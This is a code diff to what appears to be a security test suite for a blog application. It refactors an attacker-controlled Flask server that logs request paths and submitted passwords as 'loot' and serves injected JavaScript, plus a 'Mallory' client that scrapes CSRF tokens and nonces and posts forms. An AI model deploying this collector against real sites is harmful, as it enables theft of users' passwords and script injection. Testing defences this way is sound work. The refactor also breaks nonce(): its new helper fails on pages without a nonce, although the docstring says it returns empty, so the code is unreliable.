@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 from collections.abc import Callable
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 from urllib.parse import quote
 
 from flask import Flask, request
@@ -34,10 +34,9 @@ def evil(loot: Loot) -> Flask:
     @app.route("/<path:path>", methods=["GET", "POST"])
     def anything(path: str) -> tuple[str, dict[str, str]]:
         loot.append(f"{request.full_path} {request.form.get('password', '')}")
-        kind = {"js": "text/javascript", "css": "text/css"}.get(path.rpartition(".")[2])
-        return injected.RUN if kind == "text/javascript" else "", {
-            "Content-Type": kind or "text/html"
-        }
+        kinds = {"js": "text/javascript", "css": "text/css"}
+        kind = kinds.get(path.rpartition(".")[2], "text/html")
+        return injected.RUN if path.endswith(".js") else "", {"Content-Type": kind}
 
     @app.get("/coffee/<blog>")
     def coffee(blog: str) -> str:
@@ -61,17 +60,20 @@ class Mallory:
         """Write a post with a picture; the picture's address on the blog."""
         fields = {"title": "A cat", "body": "My cat"}
         page = self._post("/write", fields, files={"image": (name, content, kind)})
-        return re.findall(r"/images/\d+", page)[-1]
+        return _last(r"/images/\d+", page)
 
     def nonce(self) -> str:
-        """The nonce on a page, if there is one."""
-        return [*re.findall('nonce="(.*?)"', self._session.get(self._site).text), ""][0]
+        """The nonce on a page, empty where there is none."""
+        return _last('nonce="(.*?)"', self._session.get(self._site).text)
 
-    def _post(self, path: str, fields: dict[str, str], form: str = "", files: object = None) -> str:
+    def _post(self, path: str, fields: dict[str, str], form: str = "", files: Any = None) -> str:
         page = self._session.get(self._site + (form or path)).text
-        token = re.findall('name="csrf_token" value="(.*?)"', page)[-1]
-        data = {**fields, "csrf_token": token}
-        return self._session.post(self._site + path, data=data, files=files).text  # type: ignore[arg-type]
+        data = {**fields, "csrf_token": _last('name="csrf_token" value="(.*?)"', page)}
+        return self._session.post(self._site + path, data=data, files=files).text
+
+
+def _last(pattern: str, page: str) -> str:
+    return str(re.findall(pattern, page)[-1])
 
 
 def log_in(page: Page, blog: str, name: str) -> None:
